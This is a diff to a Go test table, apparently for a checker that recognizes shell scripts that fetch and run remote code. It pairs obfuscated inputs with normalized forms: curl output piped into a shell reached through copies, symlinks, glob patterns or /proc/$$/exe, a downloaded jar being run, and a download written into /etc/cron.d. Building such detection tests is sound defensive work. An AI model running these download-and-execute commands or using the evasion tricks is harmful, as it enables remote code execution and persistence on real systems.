@@ -31,6 +31,7 @@ var scripts = []struct{ name, script, want string }{
 	{"a copy of the shell", "cp /bin/sh /tmp/q; curl https://example.com/x | /tmp/q", "cp /bin/sh /tmp/q; curl https://example.com/x | /bin/sh"},
 	{"a link to the shell", "ln -sf /bin/bash q; curl https://example.com/x | q", "ln -sf /bin/bash q; curl https://example.com/x | /bin/bash"},
 	{"a pattern that is the shell", "curl https://example.com/x | /bin/s?", "curl https://example.com/x | /bin/sh"},
+	{"a pattern with a list", "curl https://example.com/x | /???/[b]a*h", "curl https://example.com/x | /bin/bash"},
 	{"the shell that runs the script", "curl https://example.com/x | /proc/$$/exe", "curl https://example.com/x | sh"},
 	{"a substitution that prints letters", "curl https://example.com/x | $(printf s)h", "curl https://example.com/x | sh"},
 	{"a substitution that is the command", "$(curl https://example.com/x)", "eval $(curl https://example.com/x)"},
@@ -59,6 +60,9 @@ var scripts = []struct{ name, script, want string }{
 	{"a copy of a download", "curl -so x https://example.com/x; mv x y", "curl -so x https://example.com/x; curl -o y https://example.com/x; mv x y"},
 	{"a download that is made a program", "curl -so x https://example.com/x; install -m755 x /tmp/y", "curl -so x https://example.com/x; curl -o /tmp/y https://example.com/x; chmod 755 /tmp/y; install -m755 x /tmp/y"},
 	{"what make reads", "curl -so Makefile https://example.com/x; make", "curl -so Makefile https://example.com/x; sh Makefile; make"},
+	{"an archive that is run", "curl -so a.jar https://example.com/x; java -jar a.jar", "curl -so a.jar https://example.com/x; sh a.jar; java -jar a.jar"},
+	{"a file that is only named", "curl -so a.jar https://example.com/x; make a.jar", ""},
+	{"a place outside of the project", "curl -so /etc/cron.d/x https://example.com/x", "curl > /etc/cron.d/x -so /etc/cron.d/x https://example.com/x"},
 	{"what make reads is no download", "curl -so x https://example.com/x; make", ""},
 }
 
